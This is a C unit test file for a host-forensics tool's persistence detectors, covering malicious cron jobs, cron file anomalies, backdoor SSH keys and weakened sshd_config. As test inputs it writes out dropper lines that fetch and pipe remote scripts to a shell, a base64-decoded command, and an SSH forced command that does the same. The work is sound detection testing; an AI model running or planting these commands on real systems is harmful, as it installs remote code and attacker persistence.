/*
 * test_det_per.c - the cron detectors, facts in, findings out:
 *   RM-PER-001 a job that fetches or decodes and runs code, or runs a
 *              program from a writable or hidden directory
 *   RM-PER-002 a foreign, writable or wrongly owned cron file
 *   RM-PER-003 an SSH key that lets an intruder back in (also: keys added
 *              recently, keys in a hidden AuthorizedKeysFile)
 *   RM-PER-006 sshd_config opened up (Debian's and cloud images' silent)
 * Jobs are made with the real parser (collect/cron_parse.c) from lines.
 */
#include "collect/cron_parse.h"
#include "testlib.h"
#include "collect/auth_parse.h"

#define MAXF 8
#define MAXJ 16

struct fx {
	struct snapshot *s;
	struct cron_file files[MAXF];
	struct cron_job jobs[MAXJ];
};

static struct cron_file *
file(struct fx *x, const char *path, enum cron_file_kind kind,
     const char *user)
{
	struct cron_file *f = &x->files[x->s->ncron_files++];

	memset(f, 0, sizeof(*f));
	f->path = path;
	f->kind = kind;
	f->user = user;
	f->mode = 0100644;
	f->magic = CRONM_TEXT;
	x->s->cron_files = x->files;
	return f;
}

/* A job from a crontab line of f (in f's format). */
static void
job(struct fx *x, struct cron_file *f, const char *text)
{
	struct cron_job *j = &x->jobs[x->s->ncron_jobs++];
	struct cron_line l;
	struct cron_cmd c;

	cronparse_line(text, strlen(text), f->kind == CRONF_SYSTEM ?
	    CRON_SYSTEM : CRON_USER, &l);
	assert_int_equal(l.kind, CRONL_JOB);
	cronparse_command(l.cmd, l.cmdlen, &c);
	memset(j, 0, sizeof(*j));
	j->file = f;
	j->line = (uint32_t)x->s->ncron_jobs;
	j->interval = l.interval;
	j->schedule = arena_strndup(&x->s->arena, l.sched, l.schedlen);
	if (l.user)
		j->user = arena_strndup(&x->s->arena, l.user, l.userlen);
	j->command = arena_strndup(&x->s->arena, l.cmd, l.cmdlen);
	j->flags = c.flags;
	j->path = c.path[0] ? arena_strdup(&x->s->arena, c.path) : NULL;
	j->url = c.url[0] ? arena_strdup(&x->s->arena, c.url) : NULL;
	f->njobs++;
	x->s->cron_jobs = x->jobs;
}

static struct fx *
fx_new(void)
{
	struct fx *x = xmalloc(sizeof(*x));

	memset(x, 0, sizeof(*x));
	x->s = tl_snap_new();
	return x;
}

static void
fx_free(struct fx *x)
{
	x->s->cron_files = NULL;
	x->s->cron_jobs = NULL;
	x->s->ncron_files = x->s->ncron_jobs = 0;
	tl_snap_free(x->s);
	free(x);
}

/* The one RM-PER-001 finding for a user crontab line, or none. */
static void
expect_line(const char *line, int want)  /* want: severity, or -1: none */
{
	struct fx *x = fx_new();
	struct cron_file *f = file(x, "/var/spool/cron/crontabs/root",
	    CRONF_USER, "root");
	struct findings fs;

	job(x, f, line);
	tl_run_one(x->s, "RM-PER-001", &fs);
	if (want < 0) {
		if (fs.n != 0)
			fail_msg("'%s': %s finding, expected none", line,
			    severity_name(fs.v[0]->severity));
	} else {
		if (fs.n != 1)
			fail_msg("'%s': %zu findings, expected one", line, fs.n);
		if ((int)fs.v[0]->severity != want)
			fail_msg("'%s': %s, expected %s", line,
			    severity_name(fs.v[0]->severity),
			    severity_name((enum severity)want));
		assert_string_equal(fs.v[0]->file_path,
		    "/var/spool/cron/crontabs/root");
		assert_string_equal(tl_ev_str(fs.v[0], "user"), "root");
	}
	findings_free(&fs);
	fx_free(x);
}

static void
test_cron_jobs(void **state)
{
	(void)state;
	/* droppers */
	expect_line("* * * * * wget -q -O - http://195.3.146.118/spr.sh | sh > "
	    "/dev/null 2>&1", SEV_CRITICAL);
	expect_line("@reboot curl -fsSL http://x.example/i | bash", SEV_CRITICAL);
	expect_line("0 3 * * * curl -fsSL http://x.example/i | bash", SEV_HIGH);
	expect_line("*/3 * * * * echo Y3VybA== | base64 -d | sh", SEV_CRITICAL);
	expect_line("0 * * * * cd /tmp; wget http://1.2.3.4/x; chmod +x x; ./x",
	    SEV_HIGH);
	expect_line("0 4 * * * /var/tmp/.x/upd", SEV_HIGH);
	expect_line("* * * * * /usr/bin/.sshd", SEV_HIGH);
	expect_line("0 4 * * 0 /usr/lib/.cache/upd", SEV_MEDIUM);
	expect_line("5 6 * * 0 /root/.configrc/a/upd>/dev/null 2>&1", SEV_INFO);
	/* administrators */
	expect_line("38 0 * * * \"/root/.acme.sh\"/acme.sh --cron --home "
	    "\"/root/.acme.sh\" > /dev/null", SEV_INFO);
	expect_line("* * * * * curl -fsS -m 10 -o /dev/null https://hc-ping.com/x",
	    -1);
	expect_line("0 4 * * * find /tmp -type f -mtime +7 -delete", -1);
	expect_line("*/5 * * * * /usr/bin/php /var/www/cron.php > /tmp/c.log",
	    -1);
	expect_line("0 2 * * * /usr/local/bin/backup.sh", -1);
}

/* The evidence says what, where, when, who. */
static void
test_cron_evidence(void **state)
{
	struct fx *x = fx_new();
	struct cron_file *f = file(x, "/etc/cron.d/collect", CRONF_SYSTEM, NULL);
	struct findings fs;

	(void)state;
	f->uid = 0;
	f->mode = 0100600;
	job(x, f, "*/10 * * * * root /var/tmp/crond");
	tl_run_one(x->s, "RM-PER-001", &fs);
	assert_int_equal(fs.n, 1);
	tl_assert_contains(fs.v[0]->message, "/etc/cron.d/collect:1");
	assert_string_equal(tl_ev_str(fs.v[0], "path"), "/var/tmp/crond");
	assert_string_equal(tl_ev_str(fs.v[0], "runs"), "every 10 minutes");
	assert_string_equal(tl_ev_str(fs.v[0], "schedule"), "*/10 * * * *");
	assert_string_equal(tl_ev_str(fs.v[0], "user"), "root");
	assert_string_equal(tl_ev_str(fs.v[0], "file_mode"), "0600");
	assert_string_equal(tl_ev_str(fs.v[0], "file_kind"), "system crontab");
	assert_true(tl_ev_has(fs.v[0], "does", "use a world-writable directory"));
	assert_string_equal(fs.v[0]->rule->category, "persistence");
	findings_free(&fs);
	fx_free(x);
}

static size_t
file_findings(struct fx *x, enum severity *sev)
{
	struct findings fs;
	size_t n;

	tl_run_one(x->s, "RM-PER-002", &fs);
	n = fs.n;
	if (n)
		*sev = fs.v[0]->severity;
	findings_free(&fs);
	return n;
}

static void
test_cron_files(void **state)
{
	struct fx *x;
	struct cron_file *f;
	enum severity sev = SEV_INFO;

	(void)state;
	/* a Redis dump in the spool, with the job cron still runs */
	x = fx_new();
	f = file(x, "/var/spool/cron/root", CRONF_USER, "root");
	f->magic = CRONM_REDIS;
	job(x, f, "*/1 * * * * curl -fsSL http://x/b.sh | sh");
	assert_int_equal(file_findings(x, &sev), 1);
	assert_int_equal(sev, SEV_CRITICAL);
	fx_free(x);
	/* an executable in cron.d; the same in cron.daily is medium */
	x = fx_new();
	file(x, "/etc/cron.d/x", CRONF_SYSTEM, NULL)->magic = CRONM_ELF;
	assert_int_equal(file_findings(x, &sev), 1);
	assert_int_equal(sev, SEV_HIGH);
	fx_free(x);
	x = fx_new();
	file(x, "/etc/cron.daily/x", CRONF_SCRIPT, NULL)->magic = CRONM_ELF;
	assert_int_equal(file_findings(x, &sev), 1);
	assert_int_equal(sev, SEV_MEDIUM);
	fx_free(x);
	/* world-writable */
	x = fx_new();
	file(x, "/etc/cron.d/w", CRONF_SYSTEM, NULL)->mode = 0100666;
	assert_int_equal(file_findings(x, &sev), 1);
	assert_int_equal(sev, SEV_HIGH);
	fx_free(x);
	/* a system file owned by a user */
	x = fx_new();
	file(x, "/etc/cron.d/u", CRONF_SYSTEM, NULL)->uid = 1000;
	assert_int_equal(file_findings(x, &sev), 1);
	assert_int_equal(sev, SEV_MEDIUM);
	fx_free(x);
	/* the same in an image unpacked by a user: owners say nothing */
	x = fx_new();
	f = file(x, "/etc/cron.d/u", CRONF_SYSTEM, NULL);
	f->uid = 1000;
	f->owners_unknown = true;
	assert_int_equal(file_findings(x, &sev), 0);
	fx_free(x);
	/* a text crontab of root, 0600: nothing; an unreadable one: nothing */
	x = fx_new();
	file(x, "/var/spool/cron/crontabs/root", CRONF_USER, "root")->mode =
	    0100600;
	f = file(x, "/etc/cron.d/unread", CRONF_SYSTEM, NULL);
	f->read_err = RM_EPERM;
	f->magic = CRONM_REDIS;  /* never looked at: read_err wins */
	assert_int_equal(file_findings(x, &sev), 0);
	fx_free(x);
}

/* ---- RM-PER-003 ------------------------------------------------------------ */

static struct ssh_key *
key(struct snapshot *s, struct ssh_key *keys, const char *user, uint32_t uid,
    const char *shell, const char *comment, const char *command)
{
	struct ssh_key *k = &keys[s->nssh_keys++];

	memset(k, 0, sizeof(*k));
	k->path = uid == 0 ? "/root/.ssh/authorized_keys" :
	    "/home/x/.ssh/authorized_keys";
	k->user = user;
	k->uid = uid;
	k->shell = shell;
	k->line = (uint32_t)s->nssh_keys;
	k->type = "ssh-ed25519";
	k->fingerprint = "SHA256:4fScmOar4GLDeXbSV9R3O286bqcq/DHCaDZy+w7iKRs";
	k->comment = comment;
	k->command = command;
	k->file_mode = 0100600;
	k->file_uid = uid;
	s->ssh_keys = keys;
	return k;
}

static int
key_sev(struct snapshot *s, size_t *n)
{
	struct findings fs;
	int sev = -1;

	tl_run_one(s, "RM-PER-003", &fs);
	*n = fs.n;
	if (fs.n)
		sev = (int)fs.v[0]->severity;
	findings_free(&fs);
	return sev;
}

static void
test_ssh_keys(void **state)
{
	struct ssh_key keys[4];
	struct snapshot *s;
	size_t n;

	(void)state;
	/* an administrator's key, root's and a user's: nothing */
	s = tl_snap_new();
	key(s, keys, "root", 0, "/bin/bash", "admin@laptop", NULL);
	key(s, keys, "alice", 1000, "/bin/bash", "alice@desk", NULL);
	assert_int_equal(key_sev(s, &n), -1);
	s->nssh_keys = 0;
	/* Outlaw's comment */
	key(s, keys, "root", 0, "/bin/bash", "mdrfckr", NULL);
	assert_int_equal(key_sev(s, &n), SEV_CRITICAL);
	s->nssh_keys = 0;
	/* Perfctl: the news account */
	key(s, keys, "news", 9, "/usr/sbin/nologin", "", NULL);
	assert_int_equal(key_sev(s, &n), SEV_HIGH);
	s->nssh_keys = 0;
	/* a forced command that fetches and runs */
	key(s, keys, "alice", 1000, "/bin/bash", "", "curl -s http://x/a | sh");
	assert_int_equal(key_sev(s, &n), SEV_HIGH);
	s->nssh_keys = 0;
	/* a cloud image's root stub alone: nothing; a key beside it: high */
	key(s, keys, "root", 0, "/bin/bash", "cloud", "echo 'Please login as "
	    "the user \"admin\" rather than the user \"root\".';exit 142");
	assert_int_equal(key_sev(s, &n), -1);
	key(s, keys, "root", 0, "/bin/bash", "x@y", NULL);
	assert_int_equal(key_sev(s, &n), SEV_HIGH);
	assert_int_equal(n, 1);
	s->nssh_keys = 0;
	/* a group-writable key file */
	key(s, keys, "alice", 1000, "/bin/bash", "", NULL)->file_mode = 0100664;
	assert_int_equal(key_sev(s, &n), SEV_MEDIUM);
	s->ssh_keys = NULL;
	s->nssh_keys = 0;
	tl_snap_free(s);
}

static void
test_ssh_keys_recent(void **state)
{
	struct ssh_key keys[2];
	struct snapshot *s;
	struct findings fs;
	struct ssh_key *k;
	size_t n;

	(void)state;
	s = tl_snap_new();
	/* no reference time (an image without logs): ages not judged */
	k = key(s, keys, "alice", 1000, "/bin/bash", "alice@desk", NULL);
	k->file_mtime = 1800000000;
	assert_int_equal(key_sev(s, &n), -1);
	/* changed a day before the reference: low, with its age */
	s->ref_time = 1800000000 + 86400;
	tl_run_one(s, "RM-PER-003", &fs);
	assert_int_equal(fs.n, 1);
	assert_int_equal(fs.v[0]->severity, SEV_LOW);
	assert_int_equal(finding_ev_get(fs.v[0], "file_age_days")->i, 1);
	assert_true(finding_ev_get(fs.v[0], "recently_modified")->b);
	findings_free(&fs);
	/* eight days: not recent */
	s->ref_time = 1800000000 + 8 * 86400;
	assert_int_equal(key_sev(s, &n), -1);
	/* newer than the reference (an image's logs older than the key) */
	s->ref_time = 1800000000 - 86400;
	assert_int_equal(key_sev(s, &n), SEV_LOW);
	/* recent is evidence on a stronger finding, never more */
	s->nssh_keys = 0;
	s->ref_time = 1800000000;
	k = key(s, keys, "root", 0, "/bin/bash", "mdrfckr", NULL);
	k->file_mtime = 1800000000;
	tl_run_one(s, "RM-PER-003", &fs);
	assert_int_equal(fs.v[0]->severity, SEV_CRITICAL);
	assert_true(finding_ev_get(fs.v[0], "recently_modified")->b);
	findings_free(&fs);
	/* the cloud stub itself, however new: nothing */
	s->nssh_keys = 0;
	key(s, keys, "root", 0, "/bin/bash", "c", "echo 'Please login as "
	    "the user \"admin\"';exit 142")->file_mtime = 1800000000;
	assert_int_equal(key_sev(s, &n), -1);
	/* a key in a hidden AuthorizedKeysFile of sshd_config: high; in an
	 * ordinary one (~/.ssh/authorized_keys3, /etc/ssh/keys/%u): not */
	s->nssh_keys = 0;
	s->ref_time = 0;
	k = key(s, keys, "root", 0, "/bin/bash", "", NULL);
	k->path = "/etc/ssh/.keys/root";
	k->config_pattern = "/etc/ssh/.keys/%u";
	tl_run_one(s, "RM-PER-003", &fs);
	assert_int_equal(fs.n, 1);
	assert_int_equal(fs.v[0]->severity, SEV_HIGH);
	assert_string_equal(tl_ev_str(fs.v[0], "authorized_keys_file"),
	    "/etc/ssh/.keys/%u");
	findings_free(&fs);
	k->path = "/etc/ssh/keys/root";
	k->config_pattern = "/etc/ssh/keys/%u";
	assert_int_equal(key_sev(s, &n), -1);
	k->path = "/root/.ssh/authorized_keys3";
	k->config_pattern = ".ssh/authorized_keys3";
	assert_int_equal(key_sev(s, &n), -1);
	s->ssh_keys = NULL;
	s->nssh_keys = 0;
	tl_snap_free(s);
}

/* ---- RM-PER-006 ------------------------------------------------------------ */

struct sshd_fx {
	struct snapshot *s;
	struct sshd_opt o[48];
};

/* sshd_config text as options of path; effective as sshd takes them
 * (first value of a keyword outside Match; Port & co every one). */
static void
sshd_set(struct sshd_fx *x, const char *path, const char *text)
{
	const char *p = text, *match = NULL;
	uint32_t line = 0;

	x->s->sshd_opts = x->o;
	x->s->nsshd_opts = 0;
	while (*p) {
		const char *e = strchr(p, '\n');
		size_t n = e ? (size_t)(e - p) : strlen(p);
		struct sshd_line l;
		struct sshd_opt *o;
		bool seen = false;

		line++;
		authparse_sshd_line(p, n, &l);
		p += n + (e != NULL);
		if (l.kind == SSHDL_MATCH) {
			match = strcmp(l.value, "all") ? tl_sdup(x->s, l.value) :
			    NULL;
			continue;
		}
		if (l.kind != SSHDL_OPT)
			continue;
		assert_true(x->s->nsshd_opts < TL_NELEM(x->o));
		for (size_t i = 0; i < x->s->nsshd_opts; i++)
			if (!x->o[i].match && strcmp(x->o[i].keyword,
			    l.keyword) == 0)
				seen = true;
		o = &x->o[x->s->nsshd_opts++];
		memset(o, 0, sizeof(*o));
		o->file = path;
		o->line = line;
		o->keyword = tl_sdup(x->s, l.keyword);
		o->value = tl_sdup(x->s, l.value);
		o->match = match;
		o->effective = !match && (!seen ||
		    authparse_sshd_multi(l.keyword));
		o->file_first = x->s->nsshd_opts == 1;
		o->file_mode = 0100644;
	}
}

/* Severity of the worst RM-PER-006 finding (-1: none); *n the count. */
static int
sshd_sev(struct sshd_fx *x, const char *text, size_t *n)
{
	struct findings fs;
	int sev = -1;

	sshd_set(x, "/etc/ssh/sshd_config", text);
	tl_run_one(x->s, "RM-PER-006", &fs);
	*n = fs.n;
	for (size_t i = 0; i < fs.n; i++)
		if ((int)fs.v[i]->severity > sev)
			sev = (int)fs.v[i]->severity;
	findings_free(&fs);
	return sev;
}

/* Debian 12's sshd_config: what is not commented out. */
static const char debian_sshd[] =
    "Include /etc/ssh/sshd_config.d/*.conf\n"
    "#PermitRootLogin prohibit-password\n"
    "#AuthorizedKeysFile	.ssh/authorized_keys .ssh/authorized_keys2\n"
    "KbdInteractiveAuthentication no\n"
    "UsePAM yes\n"
    "X11Forwarding yes\n"
    "PrintMotd no\n"
    "AcceptEnv LANG LC_*\n"
    "Subsystem	sftp	/usr/lib/openssh/sftp-server\n";

static void
test_sshd(void **state)
{
	struct sshd_fx x;
	char buf[2048];
	size_t n;

	(void)state;
	x.s = tl_snap_new();
	assert_int_equal(sshd_sev(&x, debian_sshd, &n), -1);
	/* cloud images */
	assert_int_equal(sshd_sev(&x, "PermitRootLogin without-password\n"
	    "PasswordAuthentication no\n", &n), -1);
	assert_int_equal(sshd_sev(&x, "PermitRootLogin prohibit-password\n",
	    &n), -1);
	assert_int_equal(sshd_sev(&x, "PermitRootLogin no\n", &n), -1);
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysFile .ssh/authorized_keys "
	    ".ssh/authorized_keys2\n", &n), -1);
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysFile %h/.ssh/"
	    "authorized_keys\nAuthorizedKeysCommand /usr/share/"
	    "ec2-instance-connect/eic_run_authorized_keys %u %f\n", &n), -1);
	/* the sed: root with a password */
	snprintf(buf, sizeof(buf), "%sPermitRootLogin yes\n", debian_sshd);
	assert_int_equal(sshd_sev(&x, buf, &n), SEV_MEDIUM);
	assert_int_equal(n, 1);
	assert_int_equal(sshd_sev(&x, "PermitRootLogin YES\n"
	    "PasswordAuthentication no\n", &n), SEV_LOW);
	assert_int_equal(sshd_sev(&x, "Port 22\nPort 2222\n"
	    "PermitRootLogin yes\n", &n), SEV_HIGH);
	/* shadowed by an earlier value: sshd never uses it */
	assert_int_equal(sshd_sev(&x, "PermitRootLogin without-password\n"
	    "PermitRootLogin yes\n", &n), -1);
	/* inside a Match block it applies to some logins */
	assert_int_equal(sshd_sev(&x, "Match Address 203.0.113.7\n"
	    "  PermitRootLogin yes\n", &n), SEV_MEDIUM);
	assert_int_equal(sshd_sev(&x, "PermitEmptyPasswords yes\n", &n),
	    SEV_HIGH);
	assert_int_equal(sshd_sev(&x, "PermitEmptyPasswords no\n", &n), -1);
	/* key files */
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysFile .ssh/authorized_keys "
	    "/etc/ssh/.keys/%u\n", &n), SEV_HIGH);
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysFile /tmp/k\n", &n),
	    SEV_HIGH);
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysFile .config/.k\n", &n),
	    SEV_HIGH);
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysFile /root/.ssh/"
	    "authorized_keys\n", &n), SEV_HIGH);
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysFile .ssh/authorized_keys "
	    ".ssh/authorized_keys3\n", &n), SEV_MEDIUM);
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysFile /var/lib/keys/%u\n",
	    &n), SEV_MEDIUM);
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysFile /etc/ssh/"
	    "authorized_keys/%u\n", &n), SEV_INFO);
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysFile none\n", &n), -1);
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysCommand /tmp/.k %u\n",
	    &n), SEV_HIGH);
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysCommand /root/k.sh\n",
	    &n), SEV_MEDIUM);
	/* sshd refuses a relative command (and "none" is none) */
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysCommand k.sh\n", &n), -1);
	assert_int_equal(sshd_sev(&x, "AuthorizedKeysCommand none\n", &n), -1);
	/* a configuration anyone may write */
	sshd_set(&x, "/etc/ssh/sshd_config.d/x.conf", "UsePAM yes\nX11Forwarding "
	    "no\n");
	x.o[0].file_mode = 0100666;
	x.o[1].file_mode = 0100666;
	{
		struct findings fs;

		tl_run_one(x.s, "RM-PER-006", &fs);
		assert_int_equal(fs.n, 1);
		assert_int_equal(fs.v[0]->severity, SEV_HIGH);
		assert_string_equal(fs.v[0]->file_path,
		    "/etc/ssh/sshd_config.d/x.conf");
		findings_free(&fs);
	}
	x.s->sshd_opts = NULL;
	x.s->nsshd_opts = 0;
	tl_snap_free(x.s);
}

static void
test_sshd_evidence(void **state)
{
	struct sshd_fx x;
	struct findings fs;
	const struct finding *f;

	(void)state;
	x.s = tl_snap_new();
	sshd_set(&x, "/etc/ssh/sshd_config", "UsePAM yes\n"
	    "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/.keys/%u\n");
	tl_run_one(x.s, "RM-PER-006", &fs);
	assert_int_equal(fs.n, 1);
	f = fs.v[0];
	assert_string_equal(f->rule->id, "RM-PER-006");
	assert_string_equal(f->file_path, "/etc/ssh/sshd_config");
	assert_int_equal(finding_ev_get(f, "line")->i, 2);
	assert_string_equal(tl_ev_str(f, "keyword"), "authorizedkeysfile");
	assert_string_equal(tl_ev_str(f, "path"), "/etc/ssh/.keys/%u");
	tl_assert_contains(f->message, "hidden");
	assert_string_equal(tl_ev_str(f, "file_mode"), "0644");
	findings_free(&fs);
	x.s->sshd_opts = NULL;
	x.s->nsshd_opts = 0;
	tl_snap_free(x.s);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_cron_jobs),
		cmocka_unit_test(test_cron_evidence),
		cmocka_unit_test(test_cron_files),
		cmocka_unit_test(test_ssh_keys),
		cmocka_unit_test(test_ssh_keys_recent),
		cmocka_unit_test(test_sshd),
		cmocka_unit_test(test_sshd_evidence),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
